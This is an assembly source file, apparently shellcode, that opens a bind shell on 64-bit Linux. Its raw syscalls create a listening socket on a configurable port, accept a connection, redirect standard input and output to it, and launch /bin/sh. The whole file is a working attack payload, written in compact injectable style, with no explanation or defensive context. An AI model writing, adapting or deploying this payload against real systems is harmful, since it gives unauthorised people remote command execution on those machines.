; Linux, 64 bit: a shell for whoever connects to PORT.
bits 64
        xor rdx, rdx
        lea rdi, [rdx + 2]
        lea rsi, [rdx + 1]
        lea rax, [rdx + 41]
        syscall
        mov rdi, rax
        push rdx
        push rdx
        mov byte [rsp], 2
        mov word [rsp + 2], ((PORT & 255) << 8) | (PORT >> 8)
        mov rsi, rsp
        mov dl, 16
        xor eax, eax
        mov al, 49
        syscall
        xor rsi, rsi
        push 50
        pop rax
        syscall
        xor rdx, rdx
        push 43
        pop rax
        syscall
        mov rdi, rax
        push 3
        pop rsi
again:  dec esi
        push 33
        pop rax
        syscall
        jne again
        cdq
        mov rax, '/bin//sh'
        push rdx
        push rax
        mov rdi, rsp
        push rdx
        push rdi
        mov rsi, rsp
        push 59
        pop rax
        syscall
